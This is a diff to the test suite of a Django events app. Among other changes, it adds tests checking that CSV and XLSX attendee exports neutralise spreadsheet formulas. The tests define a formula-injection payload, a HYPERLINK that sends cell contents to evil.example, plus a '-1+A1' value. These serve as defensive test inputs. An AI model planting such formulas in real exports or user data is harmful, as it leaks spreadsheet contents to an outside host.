@@ -11,7 +11,7 @@ import time_machine
 from talentas.events import services
 from talentas.events.models import Event, EventSeries, Registration
 
-from .factories import EventFactory, RegistrationFactory, in_days
+from .factories import EventFactory, FeedbackFactory, RegistrationFactory, in_days
 
 
 def _form(event_action, organisers, **changes):
@@ -91,7 +91,7 @@ def test_anonymous_is_sent_to_log_in(client, event):
         "/en/events/new/",
         f"/en/events/{event.pk}/edit/",
         f"/en/events/{event.pk}/attendees/",
-        f"/en/events/{event.pk}/attendees.csv",
+        f"/en/events/{event.pk}/attendees/?export=csv",
         f"/en/events/{event.pk}/check-in/",
     ]:
         response = client.get(url)
@@ -104,7 +104,7 @@ def test_outsiders_cannot_see_organiser_pages(client, event, request, who):
     for url in [
         f"/en/events/{event.pk}/edit/",
         f"/en/events/{event.pk}/attendees/",
-        f"/en/events/{event.pk}/attendees.csv",
+        f"/en/events/{event.pk}/attendees/?export=csv",
         f"/en/events/{event.pk}/check-in/",
     ]:
         assert client.get(url).status_code == 403, url
@@ -152,12 +152,12 @@ def test_attendee_list_and_its_query_count(client, owner, event, django_assert_n
         RegistrationFactory(event=event)
     client.force_login(owner)
     client.get(f"/en/events/{event.pk}/attendees/")  # warm the session
-    with django_assert_num_queries(9):
+    with django_assert_num_queries(10):
         response = client.get(f"/en/events/{event.pk}/attendees/")
     assert response.status_code == 200
     for _ in range(6):
         RegistrationFactory(event=event, status="waitlisted")
-    with django_assert_num_queries(9):
+    with django_assert_num_queries(10):
         client.get(f"/en/events/{event.pk}/attendees/")
 
 
@@ -171,18 +171,23 @@ def test_organiser_approves_from_the_attendee_list(client, owner, event, outside
     assert pending.status == "confirmed"
 
 
-def test_csv_export_of_attendees(client, owner, event):
-    Event.objects.filter(pk=event.pk).update(questions=["Company?"])
-    RegistrationFactory(event=event, user__full_name="=HYPERLINK(1)", answers={"Company?": "Nemuno inžinerija"})
+EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
+
+
+def test_csv_export_of_attendees_neutralises_formulas_in_answers_and_question_headers(client, owner, event):
+    Event.objects.filter(pk=event.pk).update(questions=["Company?", EVIL])
+    RegistrationFactory(
+        event=event, user__full_name="=HYPERLINK(1)", answers={"Company?": "Nemuno inžinerija", EVIL: "-1+A1"}
+    )
     client.force_login(owner)
-    response = client.get(f"/en/events/{event.pk}/attendees.csv")
+    response = client.get(f"/en/events/{event.pk}/attendees/?export=csv")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0][:3] == ["Name", "E-mail", "Status"]
-    assert rows[0][-1] == "Company?"
+    assert rows[0][-2:] == ["Company?", "'" + EVIL]
     assert rows[1][0] == "'=HYPERLINK(1)"
-    assert rows[1][-1] == "Nemuno inžinerija"
+    assert rows[1][-2:] == ["Nemuno inžinerija", "'-1+A1"]
 
 
 def test_check_in_page_ticks_names_with_htmx(client, owner, event, people):
@@ -214,6 +219,7 @@ def test_organise_page_lists_own_events(client, owner, event):
     response = client.get("/en/events/organise/")
     assert "Quarterly networking evening" in response.text
     assert "Someone else" not in response.text
+    assert "Quarterly" not in client.get("/en/events/organise/", {"title": "pitch"}).text
 
 
 def test_cancelling_and_deciding_are_in_the_audit_log(event, owner, outsider):
@@ -232,3 +238,44 @@ def test_cancelling_and_deciding_are_in_the_audit_log(event, owner, outsider):
         ["pending", "confirmed"],
     )
     assert (cancelled.verb, cancelled.actor, cancelled.target_id) == ("events.event.cancel", owner, str(event.pk))
+
+
+@pytest.mark.parametrize("count", [1, 25])
+def test_organise_page_costs_the_same_queries_for_few_and_many_events(
+    client, owner, organiser_org, count, django_assert_num_queries
+):
+    EventFactory.create_batch(count, organisers=[organiser_org])
+    client.force_login(owner)
+    client.get("/en/events/organise/")  # warm the session
+    with django_assert_num_queries(7):
+        assert client.get("/en/events/organise/", {"sort": "-starts_at"}).status_code == 200
+
+
+def test_attendee_list_exports_xlsx_without_formulas(client, owner, event):
+    from openpyxl import load_workbook
+
+    Event.objects.filter(pk=event.pk).update(questions=[EVIL])
+    registration = RegistrationFactory(event=event, answers={EVIL: EVIL})
+    FeedbackFactory(registration=registration, rating=5, comment=EVIL)
+    client.force_login(owner)
+    response = client.get(f"/en/events/{event.pk}/attendees/", {"export": "xlsx"})
+    assert response.status_code == 200
+    assert response["Content-Disposition"].startswith('attachment; filename="attendees-')
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    header = [cell.value for cell in sheet[1]]
+    assert header[-1] == "'" + EVIL and "Actions" not in header
+    values = {name: cell.value for name, cell in zip(header, sheet[2], strict=True)}
+    assert values["Comment"] == values["'" + EVIL] == "'" + EVIL
+    assert (values["Rating"], sheet.cell(row=2, column=header.index("Rating") + 1).data_type) == (5, "n")
+
+
+def test_attendee_list_sorts_by_a_header_link_that_says_its_order(client, owner, event):
+    RegistrationFactory(event=event, user__full_name="Zita Zabielaitė")
+    RegistrationFactory(event=event, user__full_name="Algis Adomaitis")
+    client.force_login(owner)
+    page = client.get(f"/en/events/{event.pk}/attendees/", {"sort": "-name"}).text
+    assert page.index("Zita Zabielaitė") < page.index("Algis Adomaitis")
+    assert 'aria-sort="descending"' in page and "?sort=name" in page
+    assert "<caption>Registrations" in page and '<th scope="col"' in page
